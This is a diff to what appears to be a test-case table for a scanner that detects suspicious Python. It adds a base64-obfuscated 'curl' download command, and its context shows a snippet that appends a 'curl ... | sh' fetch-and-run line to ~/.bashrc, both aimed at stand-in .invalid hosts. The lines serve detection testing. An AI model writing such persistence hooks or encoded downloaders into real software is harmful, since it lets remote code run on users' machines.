@@ -136,6 +136,17 @@ wmi.WMI().Win32_Process.Create(CommandLine='whoami')`,
     ['own.py:2 import command shell spawn whoami', 'own.py:3 import command shell spawn whoami'],
   ],
   [
+    'a command line that comes out of a decoder, though nothing starts it here',
+    `import base64
+def text():
+    return base64.b64decode('Y3VybCAtcyBodHRwczovL2hvc3QuaW52YWxpZC9h')`,
+    ['layer', 'command'],
+    [
+      'own.py:3 call layer L1 shell base64.b64decode',
+      'own.py:3 call command shell layer curl -s https://host.invalid/a',
+    ],
+  ],
+  [
     'a line for a shell profile',
     `import os
 open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://a.invalid | sh')`,
